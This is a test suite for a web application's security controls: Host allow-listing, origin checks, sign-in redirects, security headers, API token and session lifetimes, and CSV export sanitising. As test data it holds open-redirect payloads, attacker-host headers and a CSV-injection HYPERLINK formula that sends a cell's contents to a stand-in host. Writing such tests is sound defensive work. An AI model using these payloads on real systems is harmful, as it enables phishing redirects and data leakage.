/**
 * Identity at the edge: Host allow-list and own origins, the sign-in redirect, security headers,
 * API tokens (expiry, their creator's deactivation or demotion, no user/token/device management),
 * sessions stored hashed with an absolute lifetime, bounded alarm-KPI ranges, and the web
 * statement timeout.
 */
import { createHash } from 'node:crypto';
import http from 'node:http';
import { afterAll, describe, expect, inject, it } from 'vitest';
import { createPool, createSequelize } from '../../db/connection.ts';
import { closeTestPool, createThrowawayUser, freshSignIn, testPool } from '../support/accounts.ts';
import { api, base, signIn } from '../support/http.ts';

afterAll(async () => {
  await closeTestPool();
});

/** A raw request with a chosen Host header (fetch does not let one set it). */
function withHost(path: string, host: string, init: { method?: string; headers?: Record<string, string>; body?: string } = {}) {
  return new Promise<{ status: number; headers: http.IncomingHttpHeaders; body: string }>((resolve, reject) => {
    const u = new URL(path, base());
    const req = http.request(
      {
        host: u.hostname,
        port: u.port,
        path: u.pathname + u.search,
        method: init.method ?? 'GET',
        headers: { ...init.headers, host },
      },
      (res) => {
        let body = '';
        res.setEncoding('utf8');
        res.on('data', (d: string) => (body += d));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
      },
    );
    req.on('error', reject);
    req.end(init.body);
  });
}

describe('Host allow-list and own origins (DNS rebinding)', () => {
  it('answers 421 for a Host that is neither loopback nor PUBLIC_ORIGIN’s, before sign-in', async () => {
    const r = await withHost('/api/auth/login', 'evil.example:4321', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ username: 'admin', password: 'x' }),
    });
    expect(r.status).toBe(421);
    expect(r.headers['content-type']).toContain('application/problem+json');
    expect((await withHost('/', 'rebind.attacker.test')).status).toBe(421);
    // loopback names on any port are ours
    expect((await withHost('/api/health', `localhost:${new URL(base()).port}`)).status).toBe(200);
  });

  it('refuses a cookie-authenticated write whose Origin is not ours even when Host names it', async () => {
    const admin = await signIn('admin');
    const r = await withHost('/api/v1/admin/tokens', new URL(base()).host, {
      method: 'POST',
      headers: { cookie: admin.cookie, origin: 'http://evil.example:4321', 'content-type': 'application/json' },
      body: JSON.stringify({ name: 'rebound', role: 'viewer' }),
    });
    expect(r.status).toBe(403);
  });
});

describe('sign-in redirect (open redirect)', () => {
  it('never sends a signed-in user off-site through next=', async () => {
    const s = await signIn('viewer');
    for (const next of [
      '/\\evil.example/login',
      '/\t/evil.example',
      '//evil.example',
      'https://evil.example',
      '/%5Cevil.example',
    ]) {
      const r = await api(`/login?next=${encodeURIComponent(next)}`, { session: s });
      expect(r.status, next).toBe(302);
      const to = new URL(r.headers.get('location')!, base());
      expect(to.origin, next).toBe(new URL(base()).origin);
    }
    const ok = await api(`/login?next=${encodeURIComponent('/alarms?state=open')}`, { session: s });
    expect(ok.headers.get('location')).toBe('/alarms?state=open');
  });
});

describe('security headers', () => {
  it('pages carry a self-only CSP naming their inline scripts, nosniff, Referrer-Policy and no framing', async () => {
    const r = await api('/', { session: await signIn('viewer') });
    expect(r.status).toBe(200);
    const csp = r.headers.get('content-security-policy')!;
    expect(csp).toContain("default-src 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);
    // every inline script of the page is allowed by its hash (SHA-256, CSP Level 2 §4.2.4)
    const inline = [...String(r.body).matchAll(/<script(?![^>]*\ssrc=)[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]!);
    for (const code of inline.filter(Boolean)) {
      expect(csp).toContain(`'sha256-${createHash('sha256').update(code).digest('base64')}'`);
    }
    expect(r.headers.get('x-content-type-options')).toBe('nosniff');
    expect(r.headers.get('referrer-policy')).toBe('same-origin');
    // plain http on loopback: no HSTS (it would pin a name the browser cannot reach over TLS)
    expect(r.headers.get('strict-transport-security')).toBeNull();
    const apiAnswer = await api('/api/health');
    expect(apiAnswer.headers.get('x-content-type-options')).toBe('nosniff');
  });
});

async function issueToken(creator: { username: string; password: string }, role: string, extra: Record<string, unknown> = {}) {
  const admin = await signIn('admin');
  const s = creator.username === 'admin' ? admin : await freshSignIn(creator.username, creator.password);
  const r = await api('/api/v1/admin/tokens', { method: 'POST', session: s, json: { name: `t-${Date.now()}`, role, ...extra } });
  return r;
}

describe('API tokens', () => {
  it('expire: 90 days by default, at most 365, and an expired token answers 401', async () => {
    const r = await issueToken({ username: 'admin', password: '' }, 'viewer');
    expect(r.status).toBe(201);
    const days = (Date.parse(r.body.expiresAt) - Date.now()) / 86_400_000;
    expect(days).toBeGreaterThan(89.9);
    expect(days).toBeLessThanOrEqual(90);
    expect((await issueToken({ username: 'admin', password: '' }, 'viewer', { expiresInDays: 366 })).status).toBe(400);
    const bearer = { authorization: `Bearer ${r.body.secret}` };
    expect((await api('/api/v1/channels', { headers: bearer })).status).toBe(200);
    await testPool().query(`update api_tokens set expires_at = now() - interval '1 second' where id = $1`, [r.body.id]);
    const gone = await api('/api/v1/channels', { headers: bearer });
    expect(gone.status).toBe(401);
    expect(gone.body.detail).toMatch(/expired/);
  });

  it('die with their creator’s deactivation or demotion (401)', async () => {
    const admin = await signIn('admin');
    const a = await createThrowawayUser('admin', 'tok-a');
    const b = await createThrowawayUser('admin', 'tok-b');
    const ta = await issueToken(a, 'admin');
    const tb = await issueToken(b, 'engineer');
    expect(ta.status).toBe(201);
    expect(tb.status).toBe(201);
    const use = (t: { body: { secret: string } }) =>
      api('/api/v1/channels', { headers: { authorization: `Bearer ${t.body.secret}` } });
    expect((await use(ta)).status).toBe(200);
    expect((await use(tb)).status).toBe(200);
    expect((await api(`/api/v1/admin/users/${a.id}`, { method: 'PATCH', session: admin, json: { active: false } })).status).toBe(
      200,
    );
    expect((await use(ta)).status).toBe(401);
    // demoted below the token's role: dead; the role matrix of the token never outranks the creator
    expect((await api(`/api/v1/admin/users/${b.id}`, { method: 'PATCH', session: admin, json: { role: 'viewer' } })).status).toBe(
      200,
    );
    expect((await use(tb)).status).toBe(401);
  });

  it('cannot manage users, tokens or devices even with the admin role (403)', async () => {
    const t = await issueToken({ username: 'admin', password: '' }, 'admin');
    const bearer = { authorization: `Bearer ${t.body.secret}` };
    const user = await api('/api/v1/admin/users', {
      method: 'POST',
      headers: bearer,
      json: {
        username: `mint-${Date.now()}`,
        displayName: 'Minted',
        email: 'm@example.test',
        role: 'quality',
        password: 'KnownPass123',
      },
    });
    expect(user.status).toBe(403);
    expect(
      (await api('/api/v1/admin/tokens', { method: 'POST', headers: bearer, json: { name: 'again', role: 'admin' } })).status,
    ).toBe(403);
    expect((await api('/api/v1/devices', { method: 'POST', headers: bearer, json: { name: 'x' } })).status).toBe(403);
    expect((await api('/api/v1/admin/users', { headers: bearer })).status).toBe(403);
  });
});

describe('sessions', () => {
  it('are stored by the SHA-256 of their id, never the id', async () => {
    const u = await createThrowawayUser('viewer', 'sess');
    const s = await freshSignIn(u.username, u.password);
    const id = decodeURIComponent(s.cookie.split('=')[1]!);
    const hashed = createHash('sha256').update(id).digest('hex');
    const { rows } = await testPool().query<{ id: string }>('select id from user_sessions where user_id = $1', [u.id]);
    expect(rows.map((r) => r.id)).toContain(hashed);
    expect(rows.map((r) => r.id)).not.toContain(id);
    expect((await api('/api/v1/channels', { session: s })).status).toBe(200);
  });

  it('end 24 hours after sign-in however often they are used (absolute lifetime)', async () => {
    const u = await createThrowawayUser('viewer', 'abs');
    const s = await freshSignIn(u.username, u.password);
    expect((await api('/api/v1/channels', { session: s })).status).toBe(200);
    await testPool().query(
      `update user_sessions set created_at = now() - interval '24 hours 1 minute', expires_at = now() + interval '6 hours' where user_id = $1`,
      [u.id],
    );
    expect((await api('/api/v1/channels', { session: s })).status).toBe(401);
  });
});

describe('bounded ranges and statement timeout', () => {
  it('GET /api/v1/alarms/kpi refuses a huge range when to is omitted, and a from before 2000', async () => {
    const viewer = await signIn('viewer');
    const huge = await api('/api/v1/alarms/kpi?from=-100000000000000', { session: viewer });
    expect(huge.status).toBe(400);
    expect(huge.headers.get('content-type')).toContain('application/problem+json');
    const longAgo = await api(`/api/v1/alarms/kpi?from=${Date.now() - 200 * 86_400_000}`, { session: viewer });
    expect(longAgo.status).toBe(400);
    expect(longAgo.body.detail).toMatch(/92 days/);
    expect((await api('/api/v1/alarms/kpi', { session: viewer })).status).toBe(200);
  });

  it('the connection factory sets statement_timeout on both kinds of handle (the web server uses it)', async () => {
    const url = inject('stack').databaseUrl;
    const seq = createSequelize({ url, max: 1, statementTimeoutMs: 300 });
    const pool = createPool({ url, max: 1, statementTimeoutMs: 300 });
    try {
      await expect(seq.query('select pg_sleep(2)')).rejects.toThrow(/statement timeout/);
      await expect(pool.query('select pg_sleep(2)')).rejects.toThrow(/statement timeout/);
    } finally {
      await seq.close();
      await pool.end();
    }
  });
});

describe('CSV exports neutralise formulas', () => {
  it('the alarm-health CSV prefixes a source name that starts with = (OWASP CSV injection)', async () => {
    const at = '2001-03-04T05:06:07Z';
    const label = '=HYPERLINK("http://x.example/?"&A2,"open")';
    const { rows } = await testPool().query<{ id: number }>(
      `insert into alarms (source_kind, source_key, source_label, priority, message, state, active, raised_at, last_activated_at)
       values ('system', $1, $2, 'low', 'csv test', 'normal', false, $3, $3) returning id`,
      [`csv-test-${Date.now()}`, label, at],
    );
    const id = rows[0]!.id;
    try {
      await testPool().query(
        `insert into alarm_events (alarm_id, at, event, to_state, active) values ($1, $2, 'activate', 'unacked', true)`,
        [id, at],
      );
      const r = await fetch(`${base()}/api/v1/alarms/kpi?from=2001-03-04T00:00:00Z&to=2001-03-05T00:00:00Z&format=csv`, {
        headers: { cookie: (await signIn('viewer')).cookie },
      });
      expect(r.status).toBe(200);
      const csv = await r.text();
      expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A2,""open"")"`);
      for (const line of csv.split(/\r?\n/)) expect(line.startsWith('=') || line.startsWith('"=')).toBe(false);
    } finally {
      await testPool().query('delete from alarm_events where alarm_id = $1', [id]);
      await testPool().query('delete from alarms where id = $1', [id]);
    }
  });
});
